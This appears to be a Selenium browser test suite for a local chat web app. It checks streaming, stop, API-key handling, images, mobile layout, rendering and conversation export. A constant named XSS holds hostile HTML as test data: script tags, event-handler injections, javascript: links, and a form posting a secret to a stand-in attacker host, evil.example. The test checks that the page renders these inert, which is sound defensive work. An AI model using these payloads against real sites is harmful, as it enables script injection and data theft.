"""The chat page in a real browser: headless Chromium (Debian's chromium + chromium-driver, driven by Selenium)
against live servers on 127.0.0.1 with the built-in nano model, and one whose replies are scripted (thinking,
code, math, hostile HTML: text the nano model never writes). Screenshots go to docs/. Every test ends by checking
the browser's network log: no request went anywhere but the server on 127.0.0.1, and the console shows no CSP
violation. Skipped, with the reason, where Chromium is not installed (`make browser` installs it)."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from qwen35.server import ServerSettings

from browser import DOCS, ScriptedRunner, chromium, requested_urls
from test_server import MODEL, running_server

KEY = "sk-browser-test"
THOUGHT = "The user wants a sorting function.\nQuicksort is short; I will show it with a table of costs."
REPLY = ("Here is **quicksort** in Python:\n\n```python\ndef quicksort(xs: list[int]) -> list[int]:\n"
         "    if len(xs) <= 1:\n        return xs\n    pivot, *rest = xs\n"
         "    return quicksort([x for x in rest if x < pivot]) + [pivot] + quicksort([x for x in rest if x >= pivot])\n"
         "```\n\n| case | comparisons |\n|---|---|\n| average | $O(n \\log n)$ |\n| worst | $O(n^2)$ |\n\n"
         "$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$\n")
XSS = ('<script>window.__xss = "script"</script>\n\n<img src=x onerror="window.__xss = \'img\'">\n\n'
       '[click me](javascript:window.__xss=\'link\') <a href="javascript:window.__xss=\'a\'">raw link</a>\n\n'
       '<form action="http://evil.example/steal" method="post"><input name="q" value="secret">'
       '<button type="submit">Go</button></form>\n\n<iframe src="http://evil.example/"></iframe>'
       '<svg onload="window.__xss=\'svg\'"></svg> <a href="http://evil.example/x" onclick="window.__xss=\'c\'">ok</a>')


# -- fixtures ------------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def driver(tmp_path_factory) -> Iterator[Any]:
    folder = tmp_path_factory.mktemp("downloads")
    d = chromium(folder)
    d.download_dir = folder
    try:
        yield d
    finally:
        d.quit()


@pytest.fixture(scope="module")
def nano(default_model):
    with running_server(ServerSettings(model_name=MODEL), lambda: default_model) as (url, state):
        yield url, state


@pytest.fixture(scope="module")
def scripted(default_model):
    """A server whose every reply is `runner.text` (the engine is swapped for a scripted stand-in)."""
    with running_server(ServerSettings(model_name=MODEL), lambda: default_model) as (url, state):
        state.runner.stop()
        state.runner = ScriptedRunner(default_model.tokenizer)
        yield url, state.runner


@pytest.fixture(autouse=True)
def local_only(request):
    """After each test: every request the page made went to 127.0.0.1, and no CSP violation was logged."""
    if "driver" not in request.fixturenames:
        yield
        return
    d = request.getfixturevalue("driver")
    start = len(getattr(d, "requests", []))
    yield
    requested_urls(d)
    urls = [u for u, _ in d.requests[start:]]
    assert urls, "the network log is empty"
    away = [u for u in urls if not re.match(r"^(http://127\.0\.0\.1:\d+/|data:|blob:)", u)]
    assert not away, f"requests left 127.0.0.1: {away}"
    console = [e["message"] for e in d.get_log("browser") if e["level"] == "SEVERE"
               and not sanitizer_parse(e["message"])]
    assert not [m for m in console if "Content Security Policy" in m or "Refused to" in m], console


def sanitizer_parse(message: str) -> bool:
    """Chromium 156.0.8078.129 reports DOMPurify's parse of a hostile reply (DOMParser: an inert document where no
    handler runs; `securitypolicyviolation` says script-src-attr at its parseFromString call in the bundle) as an
    inline event handler violation located in the bundle. What reaches the page is checked in the DOM (no on*
    attribute, nothing ran: test_hostile_replies_render_inert)."""
    return "/web/static/app.js " in message and "Executing inline event handler" in message


# -- helpers -------------------------------------------------------------------------------------------------------
def wait(d: Any, condition, timeout: float = 30.0, what: str = "") -> Any:
    """Poll `condition`; a list the page was re-rendering (an element gone stale, or not there yet) is polled again."""
    from selenium.common.exceptions import StaleElementReferenceException
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(d, timeout, poll_frequency=0.05,
                         ignored_exceptions=(StaleElementReferenceException, IndexError)).until(condition, what)


def js(d: Any, script: str, *args: Any) -> Any:
    return d.execute_script(script, *args)


def open_page(d: Any, url: str, fresh: bool = True) -> None:
    """Load the page; `fresh` empties this origin's stored conversations and settings first."""
    d.get(url + "/")
    if fresh:
        js(d, "localStorage.clear(); return new Promise((ok) => { const r = indexedDB.deleteDatabase('qwen35-chat');"
              " r.onsuccess = r.onerror = r.onblocked = () => ok(); });")
        d.get(url + "/")
    wait(d, lambda d: js(d, "return document.body.dataset.ready") == "yes", what="the page connects")


def css(d: Any, selector: str) -> list[Any]:
    from selenium.webdriver.common.by import By

    return d.find_elements(By.CSS_SELECTOR, selector)


def send(d: Any, text: str) -> None:
    box = css(d, "#input")[0]
    box.send_keys(text)
    from selenium.webdriver.common.keys import Keys

    box.send_keys(Keys.ENTER)


def replies(d: Any) -> list[Any]:
    return css(d, "#messages .msg.assistant")


def wait_reply(d: Any, n: int, state: str = "done", timeout: float = 60.0) -> Any:
    wait(d, lambda d: len(replies(d)) >= n and replies(d)[n - 1].get_attribute("data-state") == state, timeout,
         f"reply {n} is {state}")
    return replies(d)[n - 1]


def set_extra(d: Any, fields: str) -> None:
    css(d, "#settings-open")[0].click()
    area = css(d, "#set-extra")[0]
    area.clear()
    area.send_keys(fields)
    css(d, "#settings-save")[0].click()
    wait(d, lambda d: not js(d, "return document.querySelector('#settings').open"))


def metric(url: str, name: str) -> float:
    text = httpx.get(url + "/metrics").text
    return float(re.search(rf"^{name} (\S+)$", text, re.M).group(1))


def shot(d: Any, name: str) -> None:
    DOCS.mkdir(exist_ok=True)
    d.save_screenshot(str(DOCS / name))


# -- the live nano model ---------------------------------------------------------------------------------------------
def test_reply_streams_with_stats_and_survives_reload(driver, nano):
    d, (url, _) = driver, nano
    open_page(d, url)
    assert js(d, "return getComputedStyle(document.querySelector('.thinking-body') || document.body).display")
    # count how often the reply's text changes while it streams
    js(d, "window.__updates = 0; new MutationObserver(() => { const r = document.querySelector("
          "'.msg.assistant[data-state=streaming] .content'); if (r) window.__updates += 1; })"
          ".observe(document.querySelector('#messages'), {subtree: true, childList: true, characterData: true});")
    set_extra(d, '{"max_tokens": 48, "ignore_eos": true, "temperature": 0}')
    send(d, "Hello, how are you?")
    first = wait_reply(d, 1)
    assert len(first.find_element("css selector", ".content").text) > 10
    assert js(d, "return window.__updates") > 3, "the reply arrived in one piece, not streamed"
    stats = first.find_element("css selector", ".stats").text
    # the first turn may reuse the chat template's opening, cached by an earlier conversation with this server
    m = re.fullmatch(r"48 tokens · [\d.]+ tok/s · TTFT [\d.]+ s · prefix cache (\d+)/(\d+) prompt tokens reused",
                     stats)
    assert m and int(m[1]) < int(m[2]), stats
    send(d, "Tell me more.")
    second = wait_reply(d, 2)
    reused, prompt = map(int, re.search(r"prefix cache (\d+)/(\d+)", second.text).groups())
    assert 0 < reused < prompt  # the second turn resumed from the first turn's snapshot
    d.refresh()
    wait(d, lambda d: len(replies(d)) == 2, what="the conversation is back after a reload")
    assert [e.text for e in css(d, "#conversations .conv-title")] == ["Hello, how are you?"]
    assert css(d, "#messages .msg.user .content")[1].text == "Tell me more."
    assert replies(d)[0].find_element("css selector", ".stats").text == stats


def test_regenerate_and_edit_resend(driver, nano):
    d, (url, _) = driver, nano
    open_page(d, url)
    set_extra(d, '{"max_tokens": 12, "seed": 1}')
    send(d, "Name a colour.")
    wait_reply(d, 1)
    before = metric(url, r'qwen35_requests_total\{route="/v1/chat/completions",status="200"\}')
    replies(d)[0].find_element("css selector", ".regenerate").click()
    wait(d, lambda d: metric(url, r'qwen35_requests_total\{route="/v1/chat/completions",status="200"\}') > before)
    wait_reply(d, 1)
    assert len(css(d, "#messages .msg")) == 2  # the reply was replaced, not appended
    css(d, "#messages .msg.user .edit")[0].click()
    area = css(d, ".edit-area")[0]
    area.clear()
    area.send_keys("Name a fruit.")
    css(d, ".edit-send")[0].click()
    wait(d, lambda d: css(d, "#messages .msg.user .content")[0].text == "Name a fruit.")
    wait_reply(d, 1)
    assert len(css(d, "#messages .msg")) == 2


def test_stop_mid_stream_frees_the_request(driver, nano):
    d, (url, state) = driver, nano
    open_page(d, url)
    set_extra(d, '{"max_tokens": 3000, "ignore_eos": true}')
    generated = metric(url, "qwen35_generation_tokens_total")
    send(d, "Write a very long story.")
    wait(d, lambda d: len(replies(d)) == 1 and len(replies(d)[0].text) > 40, what="tokens stream")
    assert metric(url, "qwen35_batch_size") == 1
    assert css(d, "#stop")[0].is_displayed() and not css(d, "#send")[0].is_displayed()
    from selenium.webdriver.common.keys import Keys

    css(d, "#input")[0].send_keys(Keys.ESCAPE)  # Esc stops, as the stop button does
    wait_reply(d, 1, "stopped", timeout=10)
    stopped = time.monotonic()
    wait(d, lambda d: metric(url, "qwen35_batch_size") == 0 and not state.runner.engine.has_work(), timeout=5,
         what="the server frees the request")
    assert time.monotonic() - stopped < 3
    assert metric(url, "qwen35_generation_tokens_total") - generated < 3000  # cut short, not run to the end
    assert "Stopped." in replies(d)[0].text and css(d, "#send")[0].is_displayed()
    set_extra(d, '{"max_tokens": 8}')
    send(d, "Hi")  # the page and the server go on
    wait_reply(d, 2)


def test_api_key_entered_in_settings_never_in_the_url(driver, default_model):
    d = driver
    with running_server(ServerSettings(model_name=MODEL, api_key=KEY), lambda: default_model) as (url, _):
        d.get(url + "/")
        wait(d, lambda d: js(d, "return document.querySelector('#settings').open"), what="the key is asked for")
        css(d, "#set-key")[0].send_keys(KEY)
        css(d, "#settings-save")[0].click()
        wait(d, lambda d: js(d, "return document.body.dataset.ready") == "yes")
        send(d, "Hello")
        wait_reply(d, 1)
        sent = requested_urls(d)
        assert all(KEY not in u for u, _ in sent)
        api = [h for u, h in sent if u.endswith("/v1/chat/completions")]
        assert api and all(h.get("Authorization") == f"Bearer {KEY}" for h in api)
        js(d, "localStorage.clear()")


def test_images_refused_without_a_vision_tower(driver, nano):
    d, (url, _) = driver, nano
    open_page(d, url)
    css(d, "#attach")[0].click()
    note = css(d, "#notice")[0]
    wait(d, lambda d: note.is_displayed())
    assert "no vision tower" in note.text and MODEL in note.text


@pytest.fixture(scope="module")
def vision_server(tmp_path_factory):
    """A live server with a tiny random vision-language checkpoint (its replies are noise; the images count)."""
    pytest.importorskip("transformers")
    pytest.importorskip("skimage")
    import qwen35
    from test_vision_api import NANO, make_vl_reference

    tok = qwen35.load(None).tokenizer
    ids = [tok.token_to_id(n) for n in ("<|image_pad|>", "<|vision_start|>", "<|vision_end|>")]
    path = tmp_path_factory.mktemp("web-vl")
    make_vl_reference(vocab=tok.vocab_size, image=ids[0], start=ids[1], end=ids[2]).save_pretrained(path)
    for name in ("tokenizer.json", "tokenizer_config.json", "chat_template.jinja", "generation_config.json"):
        (path / name).write_bytes((NANO / name).read_bytes())
    model = qwen35.load(path, dtype="float32")
    with running_server(ServerSettings(model_name="tiny-vl"), lambda: model) as (url, _):
        yield url, path


def test_images_by_picker_drop_and_paste(driver, vision_server):
    from PIL import Image

    d, (url, path) = driver, vision_server
    picture = path / "red.png"
    Image.new("RGB", (48, 32), (220, 30, 30)).save(picture)
    open_page(d, url)
    set_extra(d, '{"max_tokens": 3}')
    css(d, "#file")[0].send_keys(str(picture))  # the picker
    wait(d, lambda d: len(css(d, "#attachments img")) == 1)
    for kind in ("drop", "paste"):  # a dropped and a pasted file, as the browser hands them over
        js(d, """const [kind, target] = arguments; const canvas = document.createElement('canvas');
            canvas.width = 16; canvas.height = 16; canvas.getContext('2d').fillRect(0, 0, 16, 16);
            return new Promise((ok) => canvas.toBlob((blob) => { const data = new DataTransfer();
              data.items.add(new File([blob], 'x.png', {type: 'image/png'}));
              const event = kind === 'drop' ? new DragEvent('drop', {dataTransfer: data, bubbles: true, cancelable: true})
                : new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true});
              document.querySelector(target).dispatchEvent(event); ok(); }, 'image/png'));""",
           kind, "#main" if kind == "drop" else "#input")
    wait(d, lambda d: len(css(d, "#attachments img")) == 3)
    send(d, "What colour is this?")
    reply = wait_reply(d, 1, timeout=120)
    assert len(css(d, "#messages .msg.user img.thumb")) == 3 and not css(d, "#attachments img")
    assert re.search(r"\d+ tokens", reply.text) and not reply.find_element("css selector", ".error").is_displayed()


def test_phone_width(driver, nano):
    d, (url, _) = driver, nano
    d.set_window_size(390, 844)
    try:
        open_page(d, url)
        send(d, "Hi")
        wait_reply(d, 1)
        width = js(d, "return window.innerWidth")
        assert width <= 390 and js(d, "return document.documentElement.scrollWidth") <= width  # no sideways scroll
        assert not css(d, "#sidebar")[0].is_displayed() or js(
            d, "return document.querySelector('#sidebar').getBoundingClientRect().right") <= 0
        for sel in ("#input", "#send", "#settings-open", "#thinking-toggle"):
            rect = js(d, f"return document.querySelector('{sel}').getBoundingClientRect().toJSON()")
            assert rect["left"] >= 0 and rect["right"] <= width and rect["width"] > 0, sel
        shot(d, "web-phone.png")
        css(d, "#sidebar-open")[0].click()
        wait(d, lambda d: js(d, "return document.querySelector('#sidebar').getBoundingClientRect().left") >= 0)
        assert css(d, "#conversations .conv-title")[0].is_displayed()
    finally:
        d.set_window_size(1280, 860)


# -- scripted replies ------------------------------------------------------------------------------------------------
def test_thinking_code_math_and_screenshots(driver, scripted):
    d, (url, runner) = driver, scripted
    open_page(d, url)
    js(d, "document.documentElement.dataset.theme = 'light'")
    css(d, "#thinking-toggle")[0].click()
    runner.text, runner.delay = f"{THOUGHT}\n</think>\n\n{REPLY}", 0.01
    send(d, "Show me quicksort with its costs.")
    wait(d, lambda d: css(d, ".msg.assistant[data-state=streaming] details.thinking:not([hidden]) summary"))
    live = css(d, ".msg.assistant details.thinking summary")[0].text
    assert live.startswith("Thinking…") and live != "Thinking…"  # the thought so far, live, while collapsed
    reply = wait_reply(d, 1)
    runner.delay = 0.0
    details = reply.find_element("css selector", "details.thinking")
    summary = details.find_element("css selector", "summary")
    assert re.fullmatch(r"Thought for [\d.]+ s", summary.text) and summary.text != "Thought for 0.0 s"
    assert details.get_attribute("open") is None
    assert not details.find_element("css selector", ".thinking-body").is_displayed()  # collapsed
    shot(d, "web-light.png")
    summary.click()
    body = details.find_element("css selector", ".thinking-body")
    wait(d, lambda d: body.is_displayed())
    assert body.text == THOUGHT
    code = reply.find_element("css selector", "pre code.hljs")
    assert code.find_elements("css selector", ".hljs-keyword") and "def quicksort" in code.text
    assert reply.find_element("css selector", ".code-bar .copy-code").text == "Copy"
    assert len(reply.find_elements("css selector", "table tr")) == 3
    assert len(reply.find_elements("css selector", ".katex")) == 3
    assert reply.find_elements("css selector", ".katex-display")
    shot(d, "web-thinking-code.png")
    summary.click()
    wait(d, lambda d: not body.is_displayed())
    css(d, "#theme-toggle")[0].click()
    assert js(d, "return document.documentElement.dataset.theme") == "dark"
    assert js(d, "return getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
    shot(d, "web-dark.png")
    css(d, "#theme-toggle")[0].click()


def test_hostile_replies_render_inert(driver, scripted):
    d, (url, runner) = driver, scripted
    open_page(d, url)
    runner.text = XSS
    send(d, '<img src=x onerror="window.__xss=\'user\'"> check')
    reply = wait_reply(d, 1)
    assert css(d, "#messages .msg.user .content")[0].text.startswith("<img src=x")  # the user's text stays text
    root = "#messages"
    assert not css(d, f"{root} script, {root} form, {root} input, {root} iframe, {root} svg, {root} [onerror], "
                      f"{root} [onclick], {root} [onload]")
    assert not css(d, f"{root} .content [style]")
    hrefs = [a.get_attribute("href") for a in reply.find_elements("css selector", "a")]
    assert hrefs.count(None) == 2 and "http://evil.example/x" in hrefs  # javascript: links lost their href
    for a in reply.find_elements("css selector", "a"):
        a.click()  # inert: nothing runs (the http link would open a tab; it is the only one with an href)
    assert "click me" in reply.text and "raw link" in reply.text
    assert js(d, "return window.__xss") is None
    assert all(img.get_attribute("src") in (None, "") for img in reply.find_elements("css selector", "img"))
    for handle in d.window_handles[1:]:  # the tab the http link opened (CSP and no network: it loads nothing)
        d.switch_to.window(handle)
        d.close()
    d.switch_to.window(d.window_handles[0])


def test_conversations_rename_search_delete_export_import(driver, scripted):
    d, (url, runner) = driver, scripted
    open_page(d, url)
    for n, question in enumerate(["Apples or pears?", "Best sorting algorithm?"], 1):
        runner.text = f"Answer {n}."
        css(d, "#new-chat")[0].click()
        send(d, question)
        wait_reply(d, 1)
        wait(d, lambda d: len(css(d, "#conversations li")) == n)
    titles = lambda d: js(d, "return [...document.querySelectorAll('#conversations .conv-title')]"  # noqa: E731
                             ".map((e) => e.textContent)")
    assert titles(d) == ["Best sorting algorithm?", "Apples or pears?"]  # newest first
    css(d, "#conversations li .rename")[1].click()
    css(d, "#conversations .rename-input")[0].send_keys("Fruit\n")  # the old title is selected: typing replaces it
    wait(d, lambda d: titles(d) == ["Best sorting algorithm?", "Fruit"])
    css(d, "#search")[0].send_keys("answer 2")  # matches message text too
    wait(d, lambda d: titles(d) == ["Best sorting algorithm?"])
    css(d, "#search")[0].clear()
    css(d, "#search")[0].send_keys(" ")
    wait(d, lambda d: len(titles(d)) == 2)
    css(d, "#export")[0].click()
    wait(d, lambda d: list(d.download_dir.glob("qwen35-chats-*.json")), what="the export is downloaded")
    exported = next(d.download_dir.glob("qwen35-chats-*.json"))
    data = json.loads(exported.read_text())
    assert data["format"] == "qwen35-chat" and {c["title"] for c in data["conversations"]} == {
        "Fruit", "Best sorting algorithm?"}
    for left in (1, 0):
        css(d, "#conversations li .delete")[0].click()
        d.switch_to.alert.accept()  # "Delete …?"
        wait(d, lambda d: len(titles(d)) == left)
    assert not css(d, "#messages .msg")  # the open conversation went with it
    css(d, "#import")[0].send_keys(str(exported))
    wait(d, lambda d: sorted(titles(d)) == ["Best sorting algorithm?", "Fruit"])
    css(d, "#conversations .conv-title")[1].click()
    wait(d, lambda d: js(d, "return [...document.querySelectorAll('#messages .msg.user .content')]"
                            ".map((e) => e.textContent)") == ["Apples or pears?"])
    assert replies(d)[0].find_element("css selector", ".content").text == "Answer 1."
